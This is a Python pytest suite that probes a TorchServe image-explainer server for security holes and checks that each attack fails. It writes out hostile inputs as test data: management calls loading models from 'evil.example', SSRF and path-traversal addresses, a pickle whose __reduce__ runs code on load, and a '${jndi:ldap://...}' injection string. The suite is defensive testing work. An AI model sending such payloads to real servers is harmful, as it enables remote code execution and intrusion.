"""What an attacker tries against a running server, and that it comes to nothing."""

import ast
import base64
import errno
import os
import pickle
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from importlib.metadata import version
from pathlib import Path

import httpx
import pytest
from PIL.PngImagePlugin import PngInfo

from zfnet_explainer.torchserve.archive import package_version
from zfnet_explainer.torchserve.server import RunningServer

from ..samples import encoded, noise, saved
from .cases import EXPLAIN, PREDICT, SMALL, V1_EXPLAIN, V1_PREDICT, V2_PREDICT, form, written
from .conftest import FRIEND
from .odd_pictures import PICTURE

PROJECT = Path(__file__).parents[2]
UNLISTED = ("/invocations", "/models/zfnet/invoke", "/zfnet/predict")
B64 = base64.b64encode(SMALL).decode()


# Routes that nobody documents.


@pytest.mark.parametrize("path", UNLISTED)
def test_unlisted_routes_take_no_picture(attacker: httpx.Client, path: str) -> None:
    answer = attacker.post(path, content=SMALL, headers={"explain": "True"})
    assert (answer.status_code, answer.json()["error"]["code"]) == (400, "malformed_body")


@pytest.mark.parametrize("path", UNLISTED)
def test_a_client_that_says_explain_there_gets_no_more_than_it_may(attacker: httpx.Client, path: str) -> None:
    """TorchServe sets this header on its own routes alone; the bounds hold wherever the request came in."""
    instances = [{"data": {"b64": B64}}]
    dear, cheap = {"window": 8, "stride": 1}, {"methods": "occlusion", "window": 224}
    headers = {"explain": "True"}
    answer = attacker.post(path, json={"instances": instances, "parameters": dear}, headers=headers)
    assert (answer.status_code, answer.json()["error"]["code"]) == (400, "too_much_work")
    answer = attacker.post(path, json={"instances": instances, "parameters": cheap}, headers=headers)
    assert (answer.status_code, list(answer.json())) == (200, ["explanations"])


def test_a_client_cannot_say_explain_where_torchserve_does(attacker: httpx.Client) -> None:
    answer = attacker.post(PREDICT, content=SMALL, headers={"explain": "True"})
    assert "occlusion" not in answer.json()
    assert "predictions" in answer.json()


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/models"),
        ("GET", "/models/zfnet"),
        ("POST", "/models?url=https://evil.example/model.mar"),
        ("PUT", "/models/zfnet?min_worker=0"),
        ("DELETE", "/models/zfnet"),
        ("PUT", f"/models/zfnet/{package_version()}/set-default"),
        ("GET", "/workflows"),
        ("POST", "/workflows?url=https://evil.example/flow.war"),
        ("GET", "/token?type=management"),
        ("GET", "/metrics"),
        ("GET", "/system/metrics"),
    ],
)
def test_the_management_api_is_not_on_the_port_for_requests(
    target: RunningServer, attacker: httpx.Client, method: str, path: str
) -> None:
    answer = attacker.request(method, path)
    assert answer.status_code in (404, 405)
    [model] = httpx.get(f"{target.management_url}/models/zfnet", trust_env=False).json()
    assert (model["minWorkers"], [worker["status"] for worker in model["workers"]]) == (1, ["READY"])


def test_the_management_port_is_on_the_loopback_alone(target: RunningServer) -> None:
    port = int(target.management_url.rpartition(":")[2])
    with pytest.raises(OSError), socket.create_connection((own_address(), port), timeout=2):  # noqa: PT011
        pass


def own_address() -> str:
    """An address of this machine besides the loopback's; of the loopback's own range where there is none."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        try:
            connection.connect(("192.0.2.1", 9))  # sends nothing
            address: str = connection.getsockname()[0]
        except OSError:
            return "127.0.0.2"
    return address


# Pages of other web origins.


@pytest.mark.parametrize("path", [PREDICT, EXPLAIN, V1_PREDICT, V2_PREDICT, *UNLISTED])
@pytest.mark.parametrize("origin", ["https://evil.example", "null"])
def test_pages_of_other_origins_are_refused(attacker: httpx.Client, path: str, origin: str) -> None:
    answer = attacker.post(path, content=SMALL, headers={"Origin": origin})
    assert (answer.status_code, answer.json()["error"]["code"]) == (403, "forbidden_origin")


def test_its_own_page_and_the_allowed_one_may_ask(attacker: httpx.Client) -> None:
    own = str(attacker.base_url).rstrip("/")
    for origin in (own, FRIEND):
        answer = attacker.post(PREDICT, content=SMALL, headers={"Origin": origin})
        assert answer.status_code == 200
        assert answer.headers["access-control-allow-origin"] == FRIEND, "no browser shows it to any other page"


def test_a_browser_that_asks_beforehand_hears_of_the_allowed_origin_alone(attacker: httpx.Client) -> None:
    headers = {"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}
    answer = attacker.options(EXPLAIN, headers=headers)
    assert answer.headers["access-control-allow-origin"] == FRIEND


# Nothing is fetched, opened or run.


@contextmanager
def listening() -> Iterator[tuple[str, socket.socket]]:
    """A URL at which somebody listens."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.2)
        yield f"http://127.0.0.1:{listener.getsockname()[1]}/picture.png", listener


def places(client: httpx.Client, address: str) -> Iterator[httpx.Response]:
    """Answers to requests that have this address in every place there is."""
    yield client.post(PREDICT, content=address.encode())
    yield client.post(PREDICT, content=SMALL, params={"url": address, "data": address})
    yield client.post(PREDICT, files={"data": address.encode()})
    yield client.post(PREDICT, files={"data": (address, SMALL)})
    yield client.post(PREDICT, files={"data": SMALL}, data={"url": address})
    yield client.post(EXPLAIN, files={"data": SMALL}, data={"fill": address})
    yield client.post(EXPLAIN, files={"data": SMALL}, data={"target": address})
    yield client.post(PREDICT, data={"data": address})
    yield client.post(PREDICT, content=SMALL, headers={"X-Explain-Url": address})
    yield client.post(
        PREDICT, content=SMALL, headers={"url_path": address, "Referer": address, "X-Forwarded-Host": address}
    )
    for text in (address, {"url": address}, {"b64": address}):
        yield client.post(V1_PREDICT, json={"instances": [{"data": text}]})
        yield client.post(V1_PREDICT, json={"instances": [text], "parameters": {"data": address}})
    yield client.post(
        V2_PREDICT, json={"inputs": [{"name": "image", "shape": [1], "datatype": "BYTES", "data": [address]}]}
    )
    yield client.post(f"{PREDICT}/{package_version()}/{address}", content=SMALL)
    yield client.post(PREDICT, content=f'<svg xmlns:x="x"><image x:href="{address}"/></svg>'.encode())
    for route in ("/models", "/workflows"):
        yield client.post(route, params={"url": address})


def test_no_address_in_a_request_is_asked(attacker: httpx.Client) -> None:
    with listening() as (address, listener):
        assert {answer.status_code for answer in places(attacker, address)} <= {200, 400, 404, 405, 415}
        with pytest.raises(TimeoutError):
            listener.accept()


def test_no_path_in_a_request_is_opened(attacker: httpx.Client, tmp_path: Path) -> None:
    """Whoever opened this pipe would wait for its other end."""
    pipe = tmp_path / "picture.png"
    os.mkfifo(pipe)
    for path in (str(pipe), f"file://{pipe}", f"../../../../../..{pipe}"):
        assert {answer.status_code for answer in places(attacker, path)} <= {200, 400, 404, 405, 415}
        with pytest.raises(OSError) as caught:  # noqa: PT011
            os.open(pipe, os.O_WRONLY | os.O_NONBLOCK)
        assert caught.value.errno == errno.ENXIO, "nobody reads"


def test_nothing_that_is_sent_stays_in_a_file(target: RunningServer, attacker: httpx.Client) -> None:
    """Large parts of a form may lie in a file while they are read; none is left, none is called as a client says."""
    files = present(target.folder.root)
    large = encoded(noise(1500, 1500))
    assert attacker.post(PREDICT, files={"data": ("../../../evil.png", large)}).status_code == 200
    assert attacker.post(PREDICT, files={"data": ("/evil.mar", b"PK\3\4" + bytes(2**20))}).status_code == 415
    assert present(target.folder.root) == files


def present(folder: Path) -> set[str]:
    return {str(path) for path in folder.rglob("*")}


class Bomb:
    """A pickle that leaves a file where it is loaded."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[object, ...]:
        return Path.touch, (self.mark,)


@pytest.mark.parametrize("media_type", ["application/octet-stream", "application/x-python-pickle", "application/json"])
def test_a_pickle_is_not_loaded(attacker: httpx.Client, tmp_path: Path, media_type: str) -> None:
    mark = tmp_path / "ran"
    content = pickle.dumps(Bomb(mark))
    answer = attacker.post(PREDICT, content=content, headers={"content-type": media_type})
    assert answer.status_code == 415
    text = base64.b64encode(content).decode()
    [entry] = attacker.post(V1_PREDICT, json={"instances": [{"data": {"b64": text}}]}).json()["predictions"]
    assert entry["error"]["code"] == "unsupported_image"
    assert attacker.post(EXPLAIN, files={"data": SMALL}, data={"target": content}).status_code == 400
    assert not mark.exists()


UNSAFE = {
    ("torch", "load"), ("yaml", "load"), ("os", "system"),
}  # fmt: skip


def test_the_code_loads_no_pickle_and_runs_no_text() -> None:
    sources = sorted((PROJECT / "handlers").rglob("*.py"))
    assert len(sources) > 50
    for source in sources:
        for node in ast.walk(ast.parse(source.read_text())):
            names = {alias.name.partition(".")[0] for alias in node.names} if isinstance(node, ast.Import) else set()
            if isinstance(node, ast.ImportFrom):
                names = {(node.module or "").partition(".")[0]}
                if [alias.name for alias in node.names] == ["UnpicklingError"]:  # which torch raises as it refuses one
                    continue
            assert not names & {"pickle", "marshal", "shelve", "joblib", "dill"}, source
            if not isinstance(node, ast.Call):
                continue
            called = node.func
            if isinstance(called, ast.Attribute) and isinstance(called.value, ast.Name):
                assert (called.value.id, called.attr) not in UNSAFE, f"{source}:{node.lineno}"
                keywords = {keyword.arg: keyword.value for keyword in node.keywords}
                assert not _is_true(keywords.get("allow_pickle")), f"{source}:{node.lineno}"
                assert not _is_true(keywords.get("shell")), f"{source}:{node.lineno}"
            if isinstance(called, ast.Name):
                assert called.id not in {"eval", "exec", "compile", "__import__"}, f"{source}:{node.lineno}"


def _is_true(node: ast.expr | None) -> bool:
    return node is not None and not (isinstance(node, ast.Constant) and node.value is False)


# What is said, and to whom.

MARK = "c0ffee-in-the-picture"


def test_the_log_has_nothing_of_a_picture(target: RunningServer, attacker: httpx.Client) -> None:
    info = PngInfo()
    info.add_text("Comment", MARK)
    picture = saved(PICTURE, "PNG", pnginfo=info)
    half = picture[: len(picture) // 2]
    cheap = {"window": "224", "methods": "occlusion"}
    text = base64.b64encode(MARK.encode() * 30).decode()
    for content in (picture, half, MARK.encode()):
        attacker.post(PREDICT, content=content)
        attacker.post(EXPLAIN, files={"data": content}, data=cheap)
        instances = [{"data": {"b64": base64.b64encode(content).decode()}}]
        attacker.post(V1_EXPLAIN, json={"instances": instances, "parameters": {**cheap, "window": 224}})
    attacker.post(V1_PREDICT, json={"instances": [{"data": {"b64": text}}]})
    attacker.post(V1_PREDICT, content=b'{"instances": "' + MARK.encode() + b'"')
    answered = attacker.post(PREDICT, content=half, headers={"X-Request-Id": "the-last-one"})
    assert answered.json()["error"]["request_id"] == "the-last-one"
    written(target, attacker, "after-the-last-one")
    said = {path: path.read_text(errors="replace") for path in target.folder.logs.glob("*.log")}
    assert "request the-last-one: 422" in "".join(said.values()), "all of it has been written"
    for path, lines in said.items():
        assert MARK not in lines, path
        assert text[:40] not in lines, path
        assert base64.b64encode(picture[:300]).decode()[:60] not in lines, path


def test_a_form_that_torchserve_cannot_read_is_not_logged(target: RunningServer, attacker: httpx.Client) -> None:
    """Its error says what it could not read, to the client that sent it."""
    case = form("", [("data", SMALL), ("", MARK)], 500, None, PREDICT)
    attacker.post(PREDICT, content=case.content, headers=dict(case.headers))
    encoded_form = {"content-type": "application/x-www-form-urlencoded"}
    for unreadable in (f"%zz={MARK}", f"data=%zz{MARK}", f"data=%zz\n{MARK}\n\tand {MARK}"):
        assert attacker.post(PREDICT, content=unreadable.encode(), headers=encoded_form).status_code == 500
    written(target, attacker, "after-the-forms")
    assert not [path for path in target.folder.logs.glob("*.log") if MARK in path.read_text(errors="replace")]


def test_an_id_cannot_write_into_the_log_or_the_answer(target: RunningServer, attacker: httpx.Client) -> None:
    hostile = "${jndi:ldap://127.0.0.1:9/a}"
    answer = attacker.post(PREDICT, content=SMALL, headers={"X-Request-Id": hostile})
    assert hostile not in answer.text + str(answer.headers)
    written(target, attacker, "after-the-hostile-one")
    assert hostile not in (target.folder.logs / "model_log.log").read_text(errors="replace")


def test_torchserve_has_the_fixes_of_its_known_holes() -> None:
    """The newest hole was closed in 0.11; 0.12 is the last there will be."""
    assert tuple(int(part) for part in version("torchserve").split(".")[:2]) >= (0, 12)
